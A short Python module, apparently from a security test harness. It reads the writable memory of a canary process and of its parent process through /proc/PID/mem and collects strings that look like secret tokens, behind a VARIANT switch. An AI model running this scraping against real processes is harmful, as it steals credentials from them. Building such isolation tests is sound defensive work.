"""Reads the writable memory of the server's stand-in through /proc/PID/mem."""

from __future__ import annotations

import os
import re
from pathlib import Path

import kit

VARIANT = 0


def attack(out: str) -> None:
    for pid in {kit.TARGETS["canary_pid"], os.getppid()}:
        with kit.step(f"memory of {pid}"):
            maps = Path(f"/proc/{pid}/maps").read_text()
            with open(f"/proc/{pid}/mem", "rb") as memory:
                for line in maps.splitlines():
                    span, rights = line.split()[:2]
                    if not rights.startswith("rw"):
                        continue
                    start, end = (int(n, 16) for n in span.split("-"))
                    with kit.step("read"):
                        memory.seek(start)
                        for found in re.findall(
                            rb"hs-[a-z]+-[0-9a-f]{16}", memory.read(min(end - start, 4 << 20))
                        ):
                            kit.loot(found)


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
